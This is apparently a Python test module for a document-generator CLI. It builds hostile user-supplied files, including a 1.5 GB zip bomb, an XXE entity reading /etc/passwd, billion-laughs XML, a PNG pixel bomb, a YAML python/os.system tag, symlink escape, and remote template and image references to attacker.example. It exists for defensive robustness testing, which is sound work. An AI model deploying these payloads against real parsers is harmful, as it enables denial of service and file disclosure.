"""Hostile user-supplied files, built at test time (a 1.5 GB zip bomb is a few MB here, never committed).

Run as a script to print each case's command, exit code, stderr and peak memory
(the table in docs/reliability.md comes from it):  python tests/hostile.py
"""

from __future__ import annotations

import io
import os
import resource
import shutil
import struct
import subprocess
import sys
import zipfile
import zlib
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
EXAMPLE = ROOT / "data" / "profiles" / "startup-no-kubernetes.yaml"
REFERENCE = ROOT / "templates" / "reference.docx"
ADDRESS_SPACE = 2 << 30  # the safety net: a runaway case fails with MemoryError instead of taking the machine
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"


# --------------------------------------------------------------------------- zip building


def _parts(src: Path = REFERENCE) -> dict[str, bytes]:
    with zipfile.ZipFile(src) as z:
        return {n: z.read(n) for n in z.namelist()}


def _write_zip(path: Path, parts: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return path


def _raw_zip(path: Path, entries: list[tuple[str, bytes, int, int, int]]) -> Path:
    """A zip from precompressed entries (name, deflate data, crc, compressed size, declared size)."""
    out, central = bytearray(), bytearray()
    for name, data, crc, csize, size in entries:
        offset = len(out)
        n = name.encode()
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, csize, size, len(n), 0) + n + data
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, csize, size,
                               len(n), 0, 0, 0, 0, 0, offset) + n
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), len(out), 0)
    path.write_bytes(bytes(out + central + end))
    return path


def _deflated(parts: dict[str, bytes]) -> list[tuple[str, bytes, int, int, int]]:
    entries = []
    for name, data in parts.items():
        c = zlib.compressobj(6, zlib.DEFLATED, -15)
        packed = c.compress(data) + c.flush()
        entries.append((name, packed, zlib.crc32(data), len(packed), len(data)))
    return entries


def _zeros_deflated(total: int) -> tuple[bytes, int]:
    """Raw deflate of ``total`` zero bytes, built from one fully-flushed block repeated (about 1 KB per MB)."""
    block = 1 << 20
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = c.compress(b"\0" * block) + c.flush(zlib.Z_FULL_FLUSH)
    repeat = c.compress(b"\0" * block) + c.flush(zlib.Z_FULL_FLUSH)
    tail = c.flush()
    crc = 0
    zero_block = b"\0" * block
    for _ in range(total // block):
        crc = zlib.crc32(zero_block, crc)
    return first + repeat * (total // block - 1) + tail, crc


def zip_bomb(path: Path) -> Path:
    """word/styles.xml inflates to 1.5 GB (1536 MiB); the file is about 1.5 MB."""
    size = 1536 << 20
    data, crc = _zeros_deflated(size)
    entries = [e for e in _deflated(_parts()) if e[0] != "word/styles.xml"]
    return _raw_zip(path, entries + [("word/styles.xml", data, crc, len(data), size)])


def lying_header(path: Path) -> Path:
    """word/styles.xml declares 4 KiB but its data inflates to 256 MiB."""
    data, crc = _zeros_deflated(256 << 20)
    entries = [e for e in _deflated(_parts()) if e[0] != "word/styles.xml"]
    return _raw_zip(path, entries + [("word/styles.xml", data, crc, len(data), 4096)])


def with_styles(path: Path, styles: bytes) -> Path:
    return _write_zip(path, {**_parts(), "word/styles.xml": styles})


def xxe(path: Path) -> Path:
    return with_styles(path, b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                             b'<w:styles xmlns:w="' + W.encode() + b'"><w:style>&x;</w:style></w:styles>')


def billion_laughs(path: Path) -> Path:
    ents = "".join(f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    return with_styles(path, f'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY l0 "lol">{ents}]>'
                             f'<w:styles xmlns:w="{W}">&l9;</w:styles>'.encode())


def huge_styles(path: Path) -> Path:
    """A well-formed styles.xml of 9 MiB: real XML, just far too much of it."""
    body = b"<w:style/>" * (9 * (1 << 20) // 10 + 1)
    return with_styles(path, b'<w:styles xmlns:w="' + W.encode() + b'">' + body + b"</w:styles>")


def deep_xml(path: Path) -> Path:
    return with_styles(path, f'<w:styles xmlns:w="{W}">'.encode() + b"<a>" * 100_000 + b"</a>" * 100_000
                       + b"</w:styles>")


def malformed(path: Path) -> Path:
    return with_styles(path, f'<w:styles xmlns:w="{W}">\n<w:style>\n</w:styles>'.encode())


def _content_type(parts: dict[str, bytes], old: bytes, new: bytes) -> dict[str, bytes]:
    types = parts["[Content_Types].xml"]
    assert old in types
    return {**parts, "[Content_Types].xml": types.replace(old, new)}


MAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def macro_enabled(path: Path) -> Path:
    return _write_zip(path, _content_type(_parts(), MAIN, b"application/vnd.ms-word.document.macroEnabled.main+xml"))


def _add_rel(parts: dict[str, bytes], rels: str, rel: str) -> dict[str, bytes]:
    xml = parts.get(rels, f'<?xml version="1.0"?><Relationships xmlns="{PKG}"></Relationships>'.encode())
    return {**parts, rels: xml.replace(b"</Relationships>", rel.encode() + b"</Relationships>")}


def vba_in_docx(path: Path) -> Path:
    parts = _add_rel(_parts(), "word/_rels/document.xml.rels",
                     '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/'
                     'vbaProject" Target="vbaProject.bin"/>')
    return _write_zip(path, {**parts, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 512})


def attached_template(path: Path) -> Path:
    parts = _add_rel(_parts(), "word/_rels/settings.xml.rels",
                     f'<Relationship Id="rIdT" Type="{R}/attachedTemplate" '
                     'Target="http://attacker.example/template.dotm" TargetMode="External"/>')
    settings = parts["word/settings.xml"]
    head, sep, rest = settings.partition(b">")  # after the <w:settings ...> start tag (past the XML declaration)
    if head.startswith(b"<?xml"):
        start, sep2, rest = rest.partition(b">")
        head, sep = head + sep + start, sep2
    extra = f' xmlns:r="{R}"'.encode() if b"xmlns:r=" not in head else b""
    parts["word/settings.xml"] = head + extra + sep + b'<w:attachedTemplate r:id="rIdT"/>' + rest
    return _write_zip(path, parts)


def external_image(path: Path) -> Path:
    return _write_zip(path, _add_rel(_parts(), "word/_rels/document.xml.rels",
                                     f'<Relationship Id="rIdImg" Type="{R}/image" '
                                     'Target="http://attacker.example/pixel.png" TargetMode="External"/>'))


def no_styles(path: Path) -> Path:
    parts = _parts()
    del parts["word/styles.xml"]
    return _write_zip(path, parts)


def truncated(path: Path) -> Path:
    path.write_bytes(REFERENCE.read_bytes()[:2000])
    return path


def not_a_zip(path: Path) -> Path:
    path.write_text("just some text\n")
    return path


REFERENCE_CASES = {
    "zip-bomb": zip_bomb, "lying-header": lying_header, "xxe": xxe, "billion-laughs": billion_laughs,
    "huge-styles": huge_styles, "deep-xml": deep_xml, "malformed-xml": malformed, "macro-enabled": macro_enabled,
    "vba-in-docx": vba_in_docx, "attached-template": attached_template, "external-image": external_image,
    "no-styles": no_styles, "truncated": truncated, "not-a-zip": not_a_zip,
}


# --------------------------------------------------------------------------- logos


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def logo_bomb(path: Path) -> Path:
    """A 200-byte PNG whose header declares 40000 x 40000 pixels."""
    ihdr = struct.pack(">IIBBBBB", 40000, 40000, 8, 2, 0, 0, 0)
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", zlib.compress(b"\0" * 4096))
                     + _png_chunk(b"IEND", b""))
    return path


def _image(path: Path, image, fmt: str, **kw) -> Path:
    buf = io.BytesIO()
    image.save(buf, fmt, **kw)
    path.write_bytes(buf.getvalue())
    return path


def logo_truncated(path: Path) -> Path:
    from PIL import Image

    buf = io.BytesIO()
    Image.effect_noise((300, 300), 60).save(buf, "PNG")
    path.write_bytes(buf.getvalue()[: len(buf.getvalue()) // 2])
    return path


def logo_jpeg_named_png(path: Path) -> Path:
    from PIL import Image

    return _image(path, Image.new("RGB", (60, 30), (20, 80, 160)), "JPEG")


def logo_gif_named_png(path: Path) -> Path:
    from PIL import Image

    return _image(path, Image.new("P", (60, 30)), "GIF")


def logo_animated(path: Path) -> Path:
    from PIL import Image

    frames = [Image.new("RGBA", (60, 30), c) for c in ((200, 0, 0, 255), (0, 200, 0, 255))]
    return _image(path, frames[0], "PNG", save_all=True, append_images=frames[1:])


def logo_cmyk(path: Path) -> Path:
    from PIL import Image

    return _image(path, Image.new("CMYK", (60, 30), (0, 80, 160, 20)), "JPEG")


def logo_16bit(path: Path) -> Path:
    from PIL import Image

    return _image(path, Image.new("I;16", (60, 30), 40000), "PNG")


LOGO_CASES = {
    "logo-bomb": ("logo.png", logo_bomb), "logo-truncated": ("logo.png", logo_truncated),
    "logo-jpeg-named-png": ("logo.png", logo_jpeg_named_png), "logo-gif-named-png": ("logo.png", logo_gif_named_png),
    "logo-animated": ("logo.png", logo_animated), "logo-cmyk": ("logo.jpg", logo_cmyk),
    "logo-16-bit": ("logo.png", logo_16bit),
}


def profile_with_logo(folder: Path, name: str, build) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    build(folder / name)
    text = EXAMPLE.read_text(encoding="utf-8")
    assert "  output: churn-mvp\n" in text
    profile = folder / "profile.yaml"
    profile.write_text(text.replace("  output: churn-mvp\n", f"  output: churn-mvp\n  logo: {name}\n"), encoding="utf-8")
    return profile


# --------------------------------------------------------------------------- knowledge folders


def _kb_file(folder: Path, name: str, data: bytes) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_bytes(data)
    return folder


KNOWLEDGE_CASES = {
    "kb-alias-bomb": lambda d: _kb_file(d, "bomb.yaml", b"a: &a [x, x, x, x, x, x, x, x, x]\n"
                                        + b"".join(f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}]\n".encode()
                                                   for i in range(9))),
    "kb-deep-nesting": lambda d: _kb_file(d, "deep.yaml", b"id: x\nnotes: " + b"[" * 5000 + b"]" * 5000 + b"\n"),
    "kb-huge-file": lambda d: _kb_file(d, "huge.yaml", b"id: huge\nnotes: '" + b"x" * (3 << 20) + b"'\n"),
    "kb-binary-garbage": lambda d: _kb_file(d, "garbage.yaml", bytes(range(256)) * 64),
    "kb-utf16": lambda d: _kb_file(d, "utf16.yaml", "id: mlflow\nname: MLflow\n".encode("utf-16")),
    "kb-latin1": lambda d: _kb_file(d, "latin1.yaml", "id: caf\u00e9\nname: Caf\u00e9\n".encode("latin-1")),
    "kb-folder-as-file": lambda d: (d / "frameworks" / "mlflow.yaml").mkdir(parents=True) or d,
    "kb-frameworks-is-a-file": lambda d: _kb_file(d, "frameworks", b"not a folder\n"),
    "kb-symlink-out": lambda d: _symlink_out(d),
    "kb-python-tag": lambda d: _kb_file(d, "tag.yaml", b"id: !!python/object/apply:os.system [echo hi]\n"),
    "kb-not-a-mapping": lambda d: _kb_file(d, "list.yaml", b"- just\n- a list\n"),
    "kb-no-knowledge-files": lambda d: _kb_file(d, "notes.txt", b"the knowledge files are one folder down\n"),
}


def _symlink_out(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    outside = folder.parent / "outside-secret.yaml"
    outside.write_text("id: secret\n")
    (folder / "secret.yaml").symlink_to(outside)
    return folder


# --------------------------------------------------------------------------- running


def all_cases(base: Path) -> dict[str, list[str]]:
    """Case name -> briefgen arguments, with every file built under ``base``."""
    cases: dict[str, list[str]] = {}
    out = str(base / "out")
    for name, build in REFERENCE_CASES.items():
        ref = build(base / f"{name}.docx")
        cases[f"reference-docx {name}"] = ["render", str(EXAMPLE), "-f", "docx", "-o", out, "--reference-docx", str(ref)]
    for name, (file_name, build) in LOGO_CASES.items():
        profile = profile_with_logo(base / name, file_name, build)
        cases[f"logo {name}"] = ["render", str(profile), "-f", "pdf,docx", "-o", out]
    for name, build in KNOWLEDGE_CASES.items():
        folder = build(base / name)
        cases[f"knowledge {name}"] = ["validate", str(EXAMPLE), "--knowledge", str(folder)]
    return cases


def _cap_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (ADDRESS_SPACE, ADDRESS_SPACE))


def run_case(args: list[str], cwd: Path) -> tuple[int, str, int]:
    """(exit code, stderr, peak RSS in bytes) of ``briefgen args`` under an address-space cap."""
    proc = subprocess.Popen([sys.executable, "-m", "generator", *args], cwd=cwd, stdout=subprocess.DEVNULL,
                            stderr=subprocess.PIPE, preexec_fn=_cap_memory,
                            env={**os.environ, "PYTHONPATH": str(ROOT)})
    err = proc.stderr.read().decode("utf-8", "replace")
    _, status, usage = os.wait4(proc.pid, 0)
    proc.returncode = os.waitstatus_to_exitcode(status)
    proc.stderr.close()
    return proc.returncode, err, usage.ru_maxrss * 1024


if __name__ == "__main__":
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        base = Path(tmp)
        for case, args in all_cases(base).items():
            code, err, rss = run_case(args, base)
            shown = err.replace(tmp, "…").strip().replace("\n", " / ")
            print(f"| {case} | {code} | {rss >> 20} MB | {shown} |")
        shutil.rmtree(base, ignore_errors=True)
